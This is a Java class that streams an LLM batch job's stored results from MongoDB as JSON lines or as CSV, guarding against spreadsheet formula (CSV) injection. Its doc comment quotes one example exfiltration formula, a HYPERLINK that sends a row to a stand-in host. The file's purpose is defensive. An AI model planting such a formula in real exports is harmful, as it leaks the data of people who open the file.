package io.llmbatch.jobs;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Date;
import java.util.List;
import java.util.function.Function;

import com.mongodb.client.MongoCursor;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.QuoteMode;
import org.bson.Document;
import org.bson.json.JsonMode;
import org.bson.json.JsonWriterSettings;

/**
 * A job's stored results as a stream of bytes, made row by row from a MongoDB cursor while it is read (the HTTP
 * response pumps it to the client with back-pressure): memory stays the same for a hundred rows or a million.
 * JSON lines hold each document as stored; CSV holds the columns people open in a spreadsheet, quoted where a value
 * has a comma, a quote or a line break (Chinese text included), UTF-8, with a byte order mark on request (Excel needs
 * it to read UTF-8). A spreadsheet runs a cell that starts with {@code = + - @} (or a tab or carriage return) as a formula,
 * and answers and task fields are text from outside ({@code =HYPERLINK("http://x/?"&A2)} sends a row away when clicked):
 * such a cell is written with a leading {@code '}, which spreadsheets read as "this is text", unless it is a plain number
 * or the caller keeps formulas.
 */
public final class ResultsExport extends InputStream {

    private static final JsonWriterSettings RELAXED = JsonWriterSettings.builder().outputMode(JsonMode.RELAXED).build();
    private static final byte[] BOM = { (byte) 0xEF, (byte) 0xBB, (byte) 0xBF };
    private static final java.util.regex.Pattern NUMBER = java.util.regex.Pattern.compile("[-+]?\\d+([.,]\\d+)?([eE][-+]?\\d+)?");

    private final MongoCursor<Document> cursor;
    private final Function<Document, byte[]> row;
    private final String contentType;
    private byte[] chunk;
    private int pos;
    private long rows;
    private boolean closed;

    private ResultsExport(MongoCursor<Document> cursor, byte[] head, Function<Document, byte[]> row, String contentType) {
        this.cursor = cursor;
        this.row = row;
        this.contentType = contentType;
        this.chunk = head;
    }

    /** Every document as one line of relaxed extended JSON (dates as ISO strings). */
    public static ResultsExport jsonLines(MongoCursor<Document> cursor) {
        return new ResultsExport(cursor, new byte[0], d -> (d.toJson(RELAXED) + "\n").getBytes(StandardCharsets.UTF_8),
                "application/x-ndjson; charset=UTF-8");
    }

    /**
     * The columns: pid, the job's key fields (from the task), its answer, model_name, prompt_version, finish_reason, updated_at.
     *
     * @param keepFormulas write a cell that a spreadsheet would run as a formula as it is stored, without the leading '
     */
    public static ResultsExport csv(JobDefinition job, MongoCursor<Document> cursor, boolean bom, boolean keepFormulas) {
        List<String> header = new ArrayList<>();
        header.add("pid");
        for (String k : job.keyFields()) {
            if (!header.contains(k)) {
                header.add(k);
            }
        }
        header.add(job.outputField());
        header.addAll(List.of("model_name", "prompt_version", "finish_reason", "updated_at"));
        byte[] head = line(header, true);
        if (bom) {
            byte[] withBom = new byte[BOM.length + head.length];
            System.arraycopy(BOM, 0, withBom, 0, BOM.length);
            System.arraycopy(head, 0, withBom, BOM.length, head.length);
            head = withBom;
        }
        return new ResultsExport(cursor, head, d -> {
            Document task = d.get("task") instanceof Document t ? t : new Document();
            List<Object> values = new ArrayList<>();
            values.add(d.get("pid"));
            for (String k : header.subList(1, header.size() - 5)) {
                values.add(task.get(k));
            }
            values.add(d.get(job.outputField()));
            values.add(d.get("model_name"));
            values.add(d.get("prompt_version"));
            values.add(d.get("finish_reason"));
            values.add(d.get("updated_at") instanceof Date u ? Instant.ofEpochMilli(u.getTime()).toString() : d.get("updated_at"));
            return line(values, keepFormulas);
        }, "text/csv; charset=UTF-8");
    }

    private static byte[] line(List<?> values, boolean keepFormulas) {
        StringBuilder out = new StringBuilder();
        try (CSVPrinter p = new CSVPrinter(out, CSVFormat.RFC4180.builder().setQuoteMode(QuoteMode.MINIMAL).get())) {
            List<String> texts = new ArrayList<>(values.size());
            for (Object v : values) {
                String text = v == null ? "" : v instanceof Document doc ? doc.toJson(RELAXED) : String.valueOf(v);
                texts.add(keepFormulas || !runsAsFormula(text) ? text : "'" + text);
            }
            p.printRecord(texts);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return out.toString().getBytes(StandardCharsets.UTF_8);
    }

    /** Whether a spreadsheet would take the cell for a formula (OWASP's "CSV injection" list), a plain number aside. */
    static boolean runsAsFormula(String text) {
        if (text.isEmpty() || "=+-@\t\r".indexOf(text.charAt(0)) < 0) {
            return false;
        }
        return !NUMBER.matcher(text).matches();
    }

    public String contentType() {
        return contentType;
    }

    /** Rows written so far. */
    public long rows() {
        return rows;
    }

    private boolean fill() {
        while (chunk == null || pos >= chunk.length) {
            if (closed || !cursor.hasNext()) {
                close();
                return false;
            }
            chunk = row.apply(cursor.next());
            pos = 0;
            rows++;
        }
        return true;
    }

    @Override
    public int read() {
        return fill() ? chunk[pos++] & 0xff : -1;
    }

    @Override
    public int read(byte[] b, int off, int len) {
        if (len == 0) {
            return 0;
        }
        if (!fill()) {
            return -1;
        }
        int n = 0;
        while (n < len && fill()) {
            int k = Math.min(len - n, chunk.length - pos);
            System.arraycopy(chunk, pos, b, off + n, k);
            pos += k;
            n += k;
        }
        return n;
    }

    @Override
    public void close() {
        if (!closed) {
            closed = true;
            cursor.close();
        }
    }
}
